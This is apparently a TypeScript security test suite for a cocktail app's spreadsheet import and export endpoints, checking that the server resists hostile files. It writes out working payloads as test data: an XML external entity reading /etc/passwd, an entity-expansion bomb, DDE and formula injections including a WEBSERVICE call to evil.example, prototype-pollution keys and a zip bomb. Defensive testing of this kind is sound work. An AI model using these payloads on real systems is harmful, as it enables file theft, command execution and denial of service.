import * as XLSX from 'xlsx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Cocktail, ImportOutcome } from '#openapi/generated/model/index.ts';
import { logIn, type Administrator } from '#server/tests/site/log-in.ts';
import { startTestServerForFile, type TestServer } from '#server/tests/site/start-test-server.ts';

interface Zip {
  utils: {
    cfb_new(options: { root: string }): object;
    cfb_add(zip: object, name: string, content: Buffer): void;
  };
  write(zip: object, options: { type: 'buffer'; fileType: 'zip'; compression: boolean }): Buffer;
}

const DOCTYPE =
  '<!DOCTYPE x [<!ENTITY a "AAAAAAAAAA"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY secret SYSTEM "file:///etc/passwd">]>';

/** A workbook whose one name is whatever `cell` says, with a document type before it. */
function workbookWithEntities(cell: string): Buffer {
  const zip = (XLSX.CFB as Zip).utils.cfb_new({ root: 'R' });
  const add = (name: string, text: string): void =>
    (XLSX.CFB as Zip).utils.cfb_add(zip, name, Buffer.from(`<?xml version="1.0"?>${text}`));
  const sheets = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const packed = 'http://schemas.openxmlformats.org/package/2006';
  const office = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
  const inline = (at: string, text: string): string =>
    `<c r="${at}" t="inlineStr"><is><t>${text}</t></is></c>`;
  add(
    '[Content_Types].xml',
    `<Types xmlns="${packed}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="${office}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${office}.worksheet+xml"/></Types>`,
  );
  add(
    '_rels/.rels',
    `<Relationships xmlns="${packed}/relationships"><Relationship Id="r1" Type="${relations}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
  );
  add(
    'xl/workbook.xml',
    `<workbook xmlns="${sheets}" xmlns:r="${relations}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>`,
  );
  add(
    'xl/_rels/workbook.xml.rels',
    `<Relationships xmlns="${packed}/relationships"><Relationship Id="r1" Type="${relations}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
  );
  add(
    'xl/worksheets/sheet1.xml',
    `${DOCTYPE}<worksheet xmlns="${sheets}"><sheetData><row r="1">${inline('A1', 'id')}${inline('B1', 'name')}</row><row r="2">${inline('A2', 'negroni')}${inline('B2', cell)}</row></sheetData></worksheet>`,
  );
  return (XLSX.CFB as Zip).write(zip, { type: 'buffer', fileType: 'zip', compression: true });
}

describe('a sheet', () => {
  let server: TestServer;
  let admin: Administrator;

  beforeAll(async () => {
    server = await startTestServerForFile({ catalogue: 'starter' });
    admin = await logIn(server);
  });
  afterAll(() => server.stop());

  const send = (bytes: Buffer | string): ReturnType<Administrator['sendForm']> =>
    admin.sendForm('POST', '/api/cocktails/import', { file: new Blob([bytes as BlobPart]) });
  const names = async (): Promise<string[]> =>
    ((await server.api('/api/cocktails')).body as Cocktail[]).map(({ name }) => name);

  it('with external or multiplying entities gives away no file and grows by nothing', async () => {
    expect((await send(workbookWithEntities('Plain'))).status).toBe(200);
    expect(await names()).toContain('Plain');
    for (const entity of ['&secret;', '&c;']) {
      const { status, body } = await send(workbookWithEntities(`x${entity}`));
      expect([200, 400]).toContain(status);
      expect(JSON.stringify(body)).not.toContain('root:');
    }
    const all = (await names()).join('\n');
    expect(all).not.toContain('root:');
    expect(all).not.toContain('AAAAAAAAAA');
  });

  it('with formulas is read as what it says, and what goes out again runs nowhere', async () => {
    const sheet = XLSX.utils.aoa_to_sheet([
      ['id', 'name', 'description'],
      ['negroni', "=cmd|'/c calc'!A1", '@SUM(1+1)'],
    ]);
    sheet['C2'] = { t: 's', v: 'shown', f: 'WEBSERVICE("http://evil.example")' };
    const book = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(book, sheet, 'S');
    const bytes = XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer;
    expect((await send(bytes)).status).toBe(200);
    const csv = await (
      await server.fetch('/api/cocktails/export/csv', { headers: { Authorization: admin.bearer } })
    ).text();
    expect(csv).toContain("'=cmd|'/c calc'!A1");
    expect(csv).not.toMatch(/(?:^|[,\n])"?=/m);
    expect(csv).not.toContain('WEBSERVICE');
    const xlsx = await server.fetch('/api/cocktails/export/xlsx', {
      headers: { Authorization: admin.bearer },
    });
    const read = XLSX.read(await xlsx.arrayBuffer(), { cellFormula: true });
    for (const name of read.SheetNames)
      for (const cell of Object.values(read.Sheets[name] ?? {}) as { f?: string }[])
        expect(cell.f).toBeUndefined();
  });

  it('that goes out has no cell that begins like a formula, whichever separator a program takes', async () => {
    const description = "Nice;=cmd|'/c calc'!A1\t@SUM(1)\n+1; -2|'=3";
    await admin.send('PATCH', '/api/cocktails/daiquiri', { description });
    const headers = { Authorization: admin.bearer };
    const csv = await (await server.fetch('/api/cocktails/export/csv', { headers })).text();
    expect(csv).toContain('Nice;');
    for (const separator of [';', '|', '\t', '\n'])
      for (const cell of csv.split(separator).slice(1)) expect(cell).not.toMatch(/^['" ]*[=+\-@]/);
  });

  it('with prototype keys for columns, names and references pollutes nothing', async () => {
    const sheet = [
      'name,category,description,ingredients,instructions,difficulty,__proto__,constructor,toString',
      '__proto__,constructor,d,i,s,Easy,polluted,polluted,polluted',
      'constructor,__proto__,d,i,s,Easy,polluted,polluted,polluted',
      'hasOwnProperty,toString,d,i,s,Easy,,,',
    ].join('\n');
    const { status, body } = await send(sheet);
    expect(status).toBe(200);
    expect((body as ImportOutcome).results).toMatchObject({ total: 3, created: 3 });
    expect(await names()).toEqual(expect.arrayContaining(['__proto__', 'constructor', 'hasOwnProperty']));
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    for (const path of [
      '/api/cocktails/search/constructor',
      '/api/cocktails/search/__proto__',
      '/api/categories',
    ])
      expect((await server.api(path)).status).toBe(200);
    for (const name of ['mapping', 'defaults']) {
      const form = {
        file: new Blob(['name\nX']),
        [name]: '{"__proto__":{"polluted":"yes"},"constructor":"name"}',
      };
      expect([200, 400]).toContain(
        (await admin.sendForm('POST', '/api/cocktails/import?dryRun=true', form)).status,
      );
    }
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('that is a zip bomb is refused, and the server goes on', async () => {
    const zip = (XLSX.CFB as Zip).utils.cfb_new({ root: 'R' });
    for (const name of ['[Content_Types].xml', 'xl/workbook.xml', 'xl/worksheets/sheet1.xml'])
      (XLSX.CFB as Zip).utils.cfb_add(zip, name, Buffer.alloc(60 * 1024 * 1024, 0x20));
    const bomb = (XLSX.CFB as Zip).write(zip, { type: 'buffer', fileType: 'zip', compression: true });
    expect(bomb.length).toBeLessThan(2 * 1024 * 1024);
    expect((await send(bomb)).status).toBe(413);
    expect((await server.api('/api/health')).status).toBe(200);
  });
});
